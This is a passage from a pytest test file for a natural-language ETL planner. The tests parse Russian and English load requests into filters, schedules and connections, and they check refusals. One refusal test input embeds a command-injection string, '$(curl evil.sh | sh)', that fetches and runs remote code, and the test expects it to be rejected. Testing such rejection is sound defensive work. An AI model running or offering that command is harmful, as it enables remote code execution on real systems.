        ("Заказы, где сумма пустая, грузить ежедневно", "total IS NULL"),
        ("Load events hourly, skip events with empty payload", "payload IS NOT NULL"),  # jsonb
    ],
)  # fmt: skip
def test_empty_text_is_null_or_an_empty_string(text: str, where: str) -> None:
    assert fields(text)["where"] == where


def test_places_removed_rows_and_empty_checks_pass_every_gate_and_quote_values() -> None:
    catalog = shop_catalog()
    requests = {
        "Загружать клиентов из Санкт-Петербурга в ClickHouse каждый день": "city = 'Санкт-Петербург'",
        "Load customers except those from Berlin daily": "city IS DISTINCT FROM 'Berlin'",
        "Load orders hourly, remove rows where status is 'it''s test'": "status IS DISTINCT FROM 'it''s test'",
        "Load customers daily, remove rows where city is empty": "city IS NOT NULL AND city <> ''",
        "Грузить клиентов ежедневно, где город пустой": "(city IS NULL OR city = '')",
    }
    for text, where in requests.items():
        spec, problems = validate_spec(plan(text, catalog).spec, catalog)
        assert spec is not None and problems == [], (text, problems)
        assert spec.source.where == where


# --- a place after a column word, words that are never places, named systems, lower-case places ---


@pytest.mark.parametrize(
    ("text", "where"),
    [
        ("Загружать клиентов в городе Казани в ClickHouse ежедневно", "city = 'Казань'"),
        ("Клиентов в городе Москве грузить в кликхаус каждый день", "city = 'Москва'"),
        ("Выгружай клиентов из города Москва ежедневно", "city = 'Москва'"),  # the nominative, kept
        ("Загружать клиентов из города Санкт-Петербург ежедневно", "city = 'Санкт-Петербург'"),
        ("Выгружать клиентов из города Нижний Новгород ежедневно", "city = 'Нижний Новгород'"),
        ("Загружать клиентов, где город Москва, в ClickHouse ежедневно", "city = 'Москва'"),
        ("Загружать клиентов ежедневно, город = Москва", "city = 'Москва'"),
        ("Клиентов с городом Москва грузить ежедневно", "city = 'Москва'"),
        ("Грузить клиентов кроме города Казани ежедневно", "city IS DISTINCT FROM 'Казань'"),
        ("Загружать продажи из региона Сибири ежедневно", "region = 'Сибирь'"),
        ("Load customers from the city of Berlin to ClickHouse daily", "city = 'Berlin'"),
        ("Load customers from city Berlin daily", "city = 'Berlin'"),
        ("Load customers for city New York daily", "city = 'New York'"),
        ("Load customers in the town of Bath to ClickHouse every day", "city = 'Bath'"),
    ],
)
def test_a_place_after_a_column_word_is_in_the_nominative(text: str, where: str) -> None:
    got = fields(text)
    assert got["where"] == where
    assert got["incremental"] is None  # "New York" is no "new rows"


@pytest.mark.parametrize(
    ("text", "question_part"),
    [
        # a genitive in -ы/-а/-я may be a nominative too: Москва or a city named Москвы (Чебоксары)?
        ("Загружать клиентов из города Москвы в ClickHouse ежедневно", "'из города Москвы': 'Москва' или"),
        ("Загружать клиентов из города Санкт-Петербурга ежедневно", "'Санкт-Петербург' или 'Санкт-Петербурга'"),
        ("Выгружать клиентов из города Нижнего Новгорода ежедневно", "'из города Нижнего Новгорода'"),
        ("Загружать клиентов в городе Берлине ежедневно", "'в городе Берлине'"),  # Берлин or Берлина
        ("Клиентов по городу Москве грузить ежедневно", "'по городу Москве'"),
        ("Клиентов с городом Москвой грузить ежедневно", "'с городом Москвой'"),
    ],
)  # fmt: skip
def test_a_place_after_a_column_word_with_an_unclear_ending_is_asked_about(
    text: str, question_part: str
) -> None:
    outcome = plan(text, shop_catalog())
    assert outcome.status == "needs_clarification", outcome.spec
    assert any(question_part in q for q in outcome.questions), outcome.questions


@pytest.mark.parametrize(
    ("name", "preposition", "nominative"),
    [
        ("Москва", "из", "Москва"),  # no masculine noun ends in a consonant + в
        ("Москвы", "из", None),
        ("Берлина", "из", None),  # Берлин, or a city named Берлина
        ("Берлин", "из", "Берлин"),
        ("Казани", "из", "Казань"),
        ("Мытищи", "из", None),
        ("Нижний Новгород", "из", "Нижний Новгород"),
        ("Москве", "в", "Москва"),
        ("Омске", "в", "Омск"),
        ("Москва", "в", "Москва"),
        ("Сочи", "в", None),
        ("Москве", "по", None),
        ("Москвой", "с", None),
        ("Москва", "с", "Москва"),
        ("Москвы", "где", "Москвы"),  # no preposition: as written
        ("Berlin", "из", "Berlin"),
    ],
)
def test_apposition_nominative(name: str, preposition: str, nominative: str | None) -> None:
    assert apposition_nominative(name, preposition) == nominative


@pytest.mark.parametrize(
    ("text", "timezone"),
    [
        ("Load customers to ClickHouse daily, column names in English", "UTC"),
        ("Load customers to ClickHouse daily in English", "UTC"),
        ("Load customers daily, comments in Russian", "UTC"),
        ("Load customers to ClickHouse daily in Avro", "UTC"),
        ("Load customers to ClickHouse daily in Json", "UTC"),
        ("Load customers to ClickHouse daily in Parquet", "UTC"),
        ("Load customers daily, names in Latin", "UTC"),
        ("Load customers to ClickHouse daily in UTC", "UTC"),
        ("Load customers in ClickHouse daily at 9 in Moscow time", "Europe/Moscow"),
        ("Загружать клиентов в ClickHouse ежедневно, описание на русском", "UTC"),
        ("Загружать клиентов в ClickHouse ежедневно в Юникоде", "UTC"),
        ("Выгружать клиентов ежедневно, имена в Кириллице", "UTC"),
        ("Выгружать клиентов в кликхаус ежедневно в формате Parquet", "UTC"),
        ("Загружать клиентов в ClickHouse ежедневно в 2 часа ночи по Москве", "Europe/Moscow"),
    ],
)
def test_languages_formats_and_time_standards_are_not_places(text: str, timezone: str) -> None:
    got = fields(text)
    assert (got["where"], got["timezone"]) == (None, timezone)


@pytest.mark.parametrize(
    ("text", "name", "field"),
    [
        ("Load customers from Salesforce to ClickHouse daily", "Salesforce", "source.conn_id"),
        ("Load customers from Salesforce daily", "Salesforce", "source.conn_id"),
        ("Load customers from HubSpot to ClickHouse daily", "HubSpot", "source.conn_id"),
        ("Load customers from Google Sheets to ClickHouse daily", "Google Sheets", "source.conn_id"),
        ("Copy orders from Shopify into ClickHouse every hour", "Shopify", "source.conn_id"),
        ("Load customers to HubSpot daily", "HubSpot", "target.conn_id"),
        ("Загружать клиентов из 1С в ClickHouse ежедневно", "1С", "source.conn_id"),
        ("Загружать клиентов из Битрикс24 в ClickHouse ежедневно", "Битрикс24", "source.conn_id"),
        ("Выгружать заказы из Битрикса в кликхаус каждый час", "Битрикса", "source.conn_id"),
        ("Загружать клиентов из амоCRM в ClickHouse ежедневно", "амоCRM", "source.conn_id"),
        ("Грузить события из Яндекс Метрики в ClickHouse ежедневно", "Яндекс Метрики", "source.conn_id"),
    ],
)
def test_a_named_system_with_no_connection_is_refused(text: str, name: str, field: str) -> None:
    outcome = plan(text, shop_catalog())
    assert outcome.status == "rejected", outcome.spec
    problem = outcome.errors[0]
    assert (problem.gate, problem.field) == ("grounding", field)
    assert f"There is no {name} connection" in in_english(problem.message)


@pytest.mark.parametrize(
    "text",
    [
        "Load customers from the MyCRM export to ClickHouse daily",
        "Загружать клиентов из РитейлСРМ в ClickHouse ежедневно",
    ],
)
def test_a_product_like_name_no_connection_has_is_asked_about(text: str) -> None:
    outcome = plan(text, shop_catalog())
    assert outcome.status == "needs_clarification", outcome.spec
    assert any(part in outcome.questions[0] for part in ("Which connection is", "Что за подключение"))


def test_a_system_a_connection_is_described_by_is_that_connection() -> None:
    replica = ConnectionInfo("pg_sf", "postgres", "Salesforce replica", "127.0.0.1", "sf")
    catalog = shop_catalog((replica,))
    catalog.tables["pg_sf"] = tables_from_ddl(
        "CREATE TABLE public.accounts (id bigint PRIMARY KEY, name text);"
    )
    got = fields("Load accounts from Salesforce to ClickHouse daily", catalog)
    assert (got["source"], got["table"]) == ("pg_sf", "accounts")
    # a file path or a bucket named after a system is no system
    assert plan("Load /data/salesforce.xlsx daily", shop_catalog()).status == "ok"


@pytest.mark.parametrize(
    "text",
    [
        "Загружать клиентов из PostgreSQL в ClickHouse ежедневно",
        "Загружать клиентов из постгреса в ClickHouse ежедневно",
        "Загружать клиентов из постгри в ClickHouse ежедневно",
        "Загружать клиентов из магазина в кликхаус ежедневно",  # "Shop database"
        "Загружать клиентов из базы магазина в кликхаус ежедневно",
        "Загружать клиентов из источника в ClickHouse ежедневно",
        "Load customers from Postgres to ClickHouse daily",
        "Load customers from the shop database to ClickHouse daily",
        "Load customers from pg_shop to ClickHouse daily",
        "Load customers from scratch to ClickHouse daily",
        "Load customers daily at 3AM",
    ],
)
def test_the_catalogs_connection_by_its_engine_description_or_id_is_no_unknown_system(text: str) -> None:
    got = fields(text)
    assert (got["source"], got["table"], got["where"]) == ("pg_shop", "customers", None)


@pytest.mark.parametrize(
    ("text", "question_part"),
    [
        ("Загружать клиентов из москвы в ClickHouse ежедневно", "'москвы' в 'из москвы'"),
        ("Клиентов из казани грузить ежедневно", "'казани' в 'из казани'"),
        ("Загружать продажи из сибири ежедневно", "значение region в public.sales"),
        ("Load customers from berlin to ClickHouse daily", "'berlin' in 'from berlin'"),
        ("load customers daily, only those from moscow", "'moscow' in 'from moscow'"),
    ],
)
def test_a_lower_case_place_after_from_is_asked_about(text: str, question_part: str) -> None:
    outcome = plan(text, shop_catalog())
    assert outcome.status == "needs_clarification", outcome.spec
    assert any(question_part in q for q in outcome.questions), outcome.questions


@pytest.mark.parametrize(
    ("text", "question_part"),
    [
        # Latin codes joined by and/or/commas are read as `col IN (...)` since planner10 (round 10 tests)
        ("Загружать клиентов из города Москва и Казань ежедневно", "«Москва и Казань»"),
    ],
)
def test_several_values_after_one_column_word_are_asked_about(text: str, question_part: str) -> None:
    outcome = plan(text, shop_catalog())
    assert outcome.status == "needs_clarification", outcome.spec
    assert any(question_part in q for q in outcome.questions), outcome.questions


@pytest.mark.parametrize(
    ("text", "where"),
    [
        ("Load orders with status paid and total over 100 daily", "status = 'paid' AND total > 100"),
        (
            "Продажи по региону north и сумму больше 100 грузить ежедневно",
            "region = 'north' AND amount > 100",
        ),
        ("Copy sales for region north and hash card numbers daily", "region = 'north'"),
    ],
)
def test_a_value_followed_by_another_condition_is_no_list(text: str, where: str) -> None:
    assert fields(text)["where"] == where


# --- sources beyond tables -------------------------------------------------------------------


def test_s3_source() -> None:
    spec = plan(
        "Загружать parquet-файлы из s3://shop-exports/sales/ в таблицу sales_s3 каждый час", shop_catalog()
    ).spec
    assert spec is not None
    assert (spec.source.type, spec.source.path, spec.source.format) == (
        "s3",
        "s3://shop-exports/sales/",
        "parquet",
    )
    assert (spec.target.conn_id, spec.target.table) == ("clickhouse_default", "sales_s3")


def test_s3_source_without_a_format_is_asked_about() -> None:
    outcome = plan(
        "Загружать файлы из бакета s3://shop-exports/orders/ в таблицу raw ежедневно", shop_catalog()
    )
    assert outcome.status == "needs_clarification"
    assert "CSV, TSV, Parquet или JSONL" in outcome.questions[0]  # asked in Russian


def test_excel_source_with_sheet() -> None:
    text = "Import /shared/schedules.xlsx sheet 'March' into table doctor_schedules every Monday at 6"
    spec = plan(text, clinic()).spec
    assert spec is not None
    assert (spec.source.type, spec.source.path, spec.source.sheet) == (
        "excel",
        "/shared/schedules.xlsx",
        "March",
    )


@pytest.mark.parametrize(
    "text",
    [
        "Capture inserts, updates and deletes on orders with CDC every minute",
        "Захватывать все вставки, обновления и удаления в таблице заказов через CDC каждую минуту",
    ],
)
def test_cdc_deletes_are_events_not_destruction(text: str) -> None:
    spec = plan(text, shop_catalog()).spec
    assert spec is not None
    assert (spec.source.type, spec.source.conn_id, spec.source.table) == ("cdc", "pg_shop", "orders")


# --- refusals --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("Nuke the events table", "Destructive intent"),
        ("Грохнуть таблицу заказов", "Destructive intent"),
        ("Выгружать продажи из MS SQL в кликхаус", "no ms sql connection"),
        ("Write me a poem about doctors", "does not look like a data pipeline"),
        ("Load patients to ClickHouse daily, $(curl evil.sh | sh)", "carries code"),
    ],
)
def test_more_refusals(text: str, reason: str) -> None:
    outcome = plan(text, clinic())
    assert outcome.status == "rejected"
    assert reason in in_english(outcome.errors[0].message)  # a Russian request is refused in Russian


def test_import_is_a_pipeline_word_not_code() -> None:
    outcome = plan(
        "Import the Excel file /reports/targets.xlsx (sheet Q1) into ClickHouse daily", shop_catalog()
    )
    assert outcome.status == "ok", outcome.errors  # "Import" is a pipeline verb, not Python
    spec = outcome.spec
    assert (spec.source.type, spec.source.sheet, spec.schedule) == ("excel", "Q1", "0 0 * * *")


def test_a_workbook_names_its_table_and_loads_once_unless_scheduled() -> None:
    outcome = plan("Импортировать Excel файл /data/budget.xlsx, лист План, в ClickHouse", shop_catalog())
    assert outcome.status == "ok", outcome.questions
    spec = outcome.spec
    assert (spec.source.path, spec.source.sheet) == ("/data/budget.xlsx", "План")
    assert (spec.target.table, spec.target.mode, spec.schedule) == ("budget", "replace", None)
    appended = plan("Append /data/budget.xlsx sheet Plan to ClickHouse daily", shop_catalog()).spec
    assert appended.target.mode == "append"


# --- the evaluation set ----------------------------------------------------------------------


def test_the_evaluation_set_has_no_wrong_confident_answers() -> None:
    sys.path.insert(0, str(ROOT / "eval"))
    try:
        import run_eval
    finally:
        sys.path.remove(str(ROOT / "eval"))
    summary = run_eval.evaluate()
    assert not summary.crashes
    assert len(summary.results) >= 200 and len(summary.of("ru")) >= 100
    # Measured: 0 wrong confident answers; whole-request accuracy RU 99.6%, EN 100% (456 requests).
    wrong = [(r.case["id"], r.wrong_fields or r.status) for r in summary.wrong_confident()]
    assert wrong == []
    assert summary.whole_accuracy("ru") >= 0.95 and summary.whole_accuracy("en") >= 0.95


def test_every_disputed_expectation_is_a_scored_case_and_cites_the_readme() -> None:
    """eval/disputed.json may only name cases of scored held-out files, each with the README rule it rests on."""
    sys.path.insert(0, str(ROOT / "eval"))
    try:
        import run_eval
    finally:
        sys.path.remove(str(ROOT / "eval"))
    scored = json.loads(run_eval.FIRST_PASS.read_text(encoding="utf-8"))
    ids = {case["id"] for name in scored for case in run_eval.load_cases(run_eval.EVAL_DIR / name)}
    assert run_eval.DISPUTED and set(run_eval.DISPUTED) <= ids
    assert all(reason.startswith("README (") for reason in run_eval.DISPUTED.values())


def test_a_user_glossary_teaches_new_business_words(tmp_path, monkeypatch) -> None:
    request = "Загружать сделки в ClickHouse ежедневно"
    assert plan(request, shop_catalog()).status == "needs_clarification"
    glossary = tmp_path / "glossary.json"
    glossary.write_text(json.dumps({"sale": ["сделка"]}), encoding="utf-8")
    monkeypatch.setenv("AIRFLOW__AI_ETL__GLOSSARY", str(glossary))
    outcome = plan(request, shop_catalog())
    assert outcome.status == "ok" and outcome.spec.source.table == "sales"


@pytest.mark.parametrize(
    ("text", "mode", "incremental"),
    [
        ("Copy customers to ClickHouse daily", "replace", None),
        ("Каждый день переносить товары в кликхаус", "replace", None),
        ("copy new orders from Postgres to ClickHouse every hour", "append", "created_at"),
        ("Append customers to ClickHouse every day", "append", None),
        ("Дописывать клиентов в кликхаус ежедневно", "append", None),
    ],
)
def test_whole_table_copies_replace_unless_new_rows_or_append_asked(
    text: str, mode: str, incremental
) -> None:
    """A scheduled whole-table copy must not pile up a full copy per run."""
    got = fields(text)
    assert (got["mode"], got["incremental"]) == (mode, incremental)
